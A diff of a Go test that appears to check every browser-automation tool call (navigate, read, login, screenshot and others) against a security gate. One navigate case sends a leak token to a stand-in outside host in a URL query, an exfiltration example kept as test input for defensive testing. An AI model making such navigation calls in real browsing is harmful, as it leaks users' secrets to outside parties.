@@ -84,10 +84,12 @@ func TestEveryToolPassesTheGate(t *testing.T) {
 			{"snapshot_id": snapshot, "steps": []map[string]any{{"action": "upload", "mark": 1, "files": []string{"a.txt"}}}},
 			{"snapshot_id": snapshot, "steps": []map[string]any{{"action": "drag", "mark": 1, "to_mark": 2}}},
 		},
-		"read":     {{"snapshot_id": snapshot}, {"snapshot_id": snapshot, "query": "Secret"}},
-		"navigate": {{"action": "reload"}, {"action": "back"}, {"url": "http://outside.test/other?code=" + leakToken}},
-		"tabs":     {{"action": "list"}, {"action": "select", "tab_id": tab.ID}},
-		"dialog":   {{"action": "accept"}, {"action": "dismiss"}},
+		"read":       {{"snapshot_id": snapshot}, {"snapshot_id": snapshot, "query": "Secret"}},
+		"navigate":   {{"action": "reload"}, {"action": "back"}, {"url": "http://outside.test/other?code=" + leakToken}},
+		"tabs":       {{"action": "list"}, {"action": "select", "tab_id": tab.ID}},
+		"dialog":     {{"action": "accept"}, {"action": "dismiss"}},
+		"login":      {{"credential_id": "work"}},
+		"screenshot": {{}, {"tab_id": tab.ID}},
 	}
 	for _, tool := range Definitions() {
 		calls, ok := cases[tool.Name]
